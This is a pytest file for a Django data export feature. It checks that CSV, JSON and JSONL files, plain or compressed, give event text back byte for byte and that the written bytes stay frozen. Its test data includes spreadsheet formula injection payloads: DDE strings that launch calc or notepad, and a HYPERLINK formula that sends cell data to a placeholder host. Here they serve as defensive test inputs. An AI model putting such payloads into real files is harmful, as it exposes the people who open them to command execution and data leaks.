"""Files: what a machine reads back is byte for byte what the event said (A34), and frozen (A20)."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from django.core.files.storage import default_storage
from django.db import connection

from exports import selection, writing
from exports.models import Export, ExportRun
from exports.writing import FileFormat
from tests.exports.house import MONDAY, House, content, noon, rows, unpacked

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    " =",
    "'=",
    '"=',
)
FORMULAS = [
    *(f"{start}1+2" for start in STARTS),
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    '=HYPERLINK("http://x.example?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "=1;=2",
    "-2+3+cmd|' /C notepad'!'A1'", '=IMPORTXML("x","//a")', "%0A=1", "=1\n=2", ",=1", '"",=1',
    ";=1", "\\=1", "==1",
]  # fmt: skip
HOSTILE = [
    "", " ", "a,b", 'a "quoted" b', '"', '""', "a\nb", "a\r\nb", "\r", "\\N", "\\.", "NULL", "null",
    "ñ ü ß € 漢字 😀", "\u2028\u2029", "\u0001\u0002\u001f\u007f\u0085", "\ufeffx", "a\tb", "\\",
    "\\n", "/*", "--", "trailing ", "é" * 300, "\u202e", "[{}]", "<b>&amp;</b>",
]  # fmt: skip
TEXTS = [*FORMULAS, *HOSTILE]
COLUMNS = [
    {"name": "id", "path": "id"},
    {"name": "=first", "path": "text"},
    {"name": 'a "second", name', "path": "user.firstName"},
    {"name": "third", "constant": "=1+1"},
]


@pytest.fixture
def texts(house: House) -> Iterator[House]:
    for number, text in enumerate(TEXTS):
        payload = {"text": text, "user": {"firstName": text}, text or "empty": text}
        house.event(noon(MONDAY, number / 60), f"{number:03d}{text[:50]}", payload=payload)
    yield house


def test_there_are_forty_formulas_and_no_nul() -> None:
    assert len(set(FORMULAS)) >= 40 and not any("\0" in text for text in TEXTS)


@pytest.mark.parametrize("compression", ["", "gzip", "zip"])
def test_csv_gives_every_text_back_byte_for_byte(texts: House, compression: str) -> None:
    """Machine CSV: a formula stays what it is."""
    run = texts.night(texts.export(format="csv", columns=COLUMNS, compression=compression), MONDAY)
    header, *records = rows(run)
    assert header == ["id", "=first", 'a "second", name', "third"]
    assert [row[1] for row in records] == TEXTS and [row[2] for row in records] == TEXTS
    assert [row[0] for row in records] == [f"{n:03d}{text[:50]}" for n, text in enumerate(TEXTS)]
    assert {row[3] for row in records} == {"=1+1"}


@pytest.mark.parametrize("kind", ["json", "jsonl"])
@pytest.mark.parametrize("columns", [[], COLUMNS])
def test_json_gives_every_text_back_byte_for_byte(
    texts: House, kind: str, columns: list[Any]
) -> None:
    run = texts.night(texts.export(format=kind, columns=columns), MONDAY)
    records = rows(run)
    if columns:
        assert [row["=first"] for row in records] == TEXTS
        assert [row['a "second", name'] for row in records] == TEXTS
    else:
        assert [row["text"] for row in records] == TEXTS
        assert [row[text or "empty"] for row, text in zip(records, TEXTS, strict=True)] == TEXTS
    assert run.rows == len(TEXTS)


def test_a_null_is_an_empty_cell_and_an_empty_text_an_empty_quoted_one(house: House) -> None:
    house.event(noon(MONDAY), "e", payload={"null": None, "empty": "", "no": False, "n": 1.50})
    columns = [{"name": n, "path": n} for n in ("null", "empty", "missing", "no", "n")]
    run = house.night(house.export(format="csv", columns=columns), MONDAY)
    assert content(run) == b'null,empty,missing,no,n\n,"",,false,1.5\n'
    run = house.night(house.export(format="jsonl", columns=columns), MONDAY)
    assert rows(run) == [{"null": None, "empty": "", "missing": None, "no": False, "n": 1.5}]


def test_the_json_of_an_event_is_the_webhooks(house: House) -> None:
    payload = {"user": "a@example.edu", "userDetail": {"id": "u", "ref1": None}, "id": "not this"}
    house.event(noon(MONDAY), "the-id", payload=payload)
    house.event(noon(MONDAY, 1), "bare", subject="lee")
    run = house.night(house.export(format="json"), MONDAY)
    assert rows(run) == [
        {
            "id": "the-id",
            "timestamp": "2026-03-02T12:00:00.000Z",
            "event": "courseCompletion",
            "user": "a@example.edu",
            "userDetail": {"id": "u", "ref1": None},
        },
        {
            "id": "bare",
            "timestamp": "2026-03-02T13:00:00.000Z",
            "event": "courseCompletion",
            "subject": "lee",
        },
    ]


def test_dotted_names_are_nested_in_json_and_flat_in_csv(house: House) -> None:
    house.event(noon(MONDAY), "e", payload={"userDetail": {"id": "u", "n": [1]}})
    columns = [
        {"name": "userDetail.id", "path": "userDetail.id"},
        {"name": "userDetail.list", "path": "userDetail.n"},
        {"name": "a.b.c", "constant": "x"},
    ]
    run = house.night(house.export(format="json", columns=columns), MONDAY)
    assert rows(run) == [{"userDetail": {"id": "u", "list": [1]}, "a": {"b": {"c": "x"}}}]
    run = house.night(house.export(format="csv", columns=columns), MONDAY)
    assert rows(run) == [["userDetail.id", "userDetail.list", "a.b.c"], ["u", "[1]", "x"]]


@pytest.mark.parametrize(
    "kind, data",
    [("csv", b"id\n"), ("json", b"[]\n"), ("jsonl", b"")],
    ids=["csv", "json", "jsonl"],
)
@pytest.mark.parametrize("compression", ["", "gzip", "zip"])
def test_an_empty_day_sends_an_empty_file_where_that_is_asked_for(
    house: House, kind: str, data: bytes, compression: str
) -> None:
    columns = [{"name": "id", "path": "id"}]
    export = house.export(
        format=kind, columns=columns, compression=compression, empty=Export.Empty.SEND
    )
    house.destination(export)
    run = house.night(export, MONDAY)
    assert (run.state, run.rows, unpacked(run)) == (ExportRun.State.WRITTEN, 0, data)
    assert len(house.deliveries(run)) == 1


def test_an_empty_day_sends_nothing_otherwise(house: House) -> None:
    export = house.export()
    house.destination(export)
    run = house.night(export, MONDAY)
    assert (run.state, run.content, run.file_name, run.size) == (ExportRun.State.EMPTY, "", "", 0)
    assert run.reason and run.snapshot and not house.deliveries(run)


@pytest.mark.parametrize("compression", ["", "gzip", "zip"])
def test_the_same_rows_give_the_same_bytes_at_any_time(texts: House, compression: str) -> None:
    """Reruns are files of their own: the time and the name are in none of them."""
    export = texts.export(format="json", compression=compression, name_pattern="x_{date}")
    first = texts.night(export, MONDAY)
    assert (first.size, first.sha256) == (
        len(content(first)),
        hashlib.sha256(content(first)).hexdigest(),
    )
    other = texts.export(format="json", compression=compression, name_pattern="x_{date}")
    assert content(texts.night(other, MONDAY)) == content(first)


def test_a_zip_holds_one_entry_with_the_files_own_ending(house: House) -> None:
    house.event(noon(MONDAY), "e")
    export = house.export(format="csv", compression="zip", name_pattern="users_{date}")
    run = house.night(export, MONDAY)
    assert run.file_name == "users_2026-03-02.zip"
    with zipfile.ZipFile(io.BytesIO(content(run))) as archive:
        (entry,) = archive.infolist()
        assert entry.filename == "users_2026-03-02.csv" and archive.testzip() is None
    packed = house.night(house.export(compression="gzip", name_pattern="u_{date}"), MONDAY)
    assert packed.file_name == "u_2026-03-02.jsonl.gz" and gzip.decompress(content(packed))


def test_the_bytes_are_frozen_whatever_happens_to_the_data(house: House) -> None:
    """A20: the attempts of a delivery all send what was written once."""
    house.event(noon(MONDAY), "e", payload={"a": 1})
    export = house.export()
    house.destination(export)
    run = house.night(export, MONDAY)
    before = content(run)
    house.event(noon(MONDAY, 1), "late")
    Export.objects.filter(pk=export.pk).update(format="csv", name_pattern="other_{date}")
    assert house.write() == []
    run.refresh_from_db()
    assert content(run) == before and hashlib.sha256(before).hexdigest() == run.sha256
    assert run.file_name.endswith(".jsonl") and default_storage.size(run.content) == run.size


def test_blocks_are_joined_rightly_whatever_their_size(
    texts: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    export = texts.export(format="json")
    whole = content(texts.night(export, MONDAY))
    for size in (1, 7, 500, 5000):
        monkeypatch.setattr(writing, "_BLOCK", size)
        again = texts.night(texts.export(format="json"), MONDAY)
        assert content(again) == whole
    assert len(json.loads(whole)) == len(TEXTS)


def test_what_the_check_raises_ends_the_writing(texts: House, tmp_path: Any) -> None:
    class Stop(Exception):
        pass

    def stop() -> None:
        raise Stop

    bounds = selection.Bounds(texts.tenant.pk, noon(MONDAY, -1), noon(MONDAY, -1), noon(MONDAY, 9))
    raw = connection.connection
    parts = selection.parts(raw, {}, bounds)
    with pytest.raises(Stop):
        writing.write(raw, parts, FileFormat("jsonl", ()), tmp_path / "x", stop)
    assert raw.info.transaction_status == psycopg.pq.TransactionStatus.IDLE
    written = writing.write(raw, parts, FileFormat("jsonl", ()), tmp_path / "y")
    assert written.rows == len(TEXTS), "the connection can be used again"


def test_csv_of_one_column_has_a_line_for_each_row_whatever_it_holds(house: House) -> None:
    for number, text in enumerate(["\\.", "", None, "x"]):
        house.event(noon(MONDAY, number), f"e{number}", payload={"t": text})
    run = house.night(house.export(format="csv", columns=[{"name": "t", "path": "t"}]), MONDAY)
    records = list(csv.reader(io.StringIO(content(run).decode(), newline="")))
    assert records == [["t"], ["\\."], [""], [], ["x"]]
